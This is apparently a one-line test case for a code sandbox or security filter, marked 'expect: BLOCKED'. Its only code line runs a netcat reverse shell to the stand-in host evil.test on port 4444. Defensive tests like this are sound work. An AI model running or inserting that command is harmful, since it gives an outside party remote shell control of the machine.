# expect: BLOCKED
import os
os.system("nc evil.test 4444 -e /bin/sh")
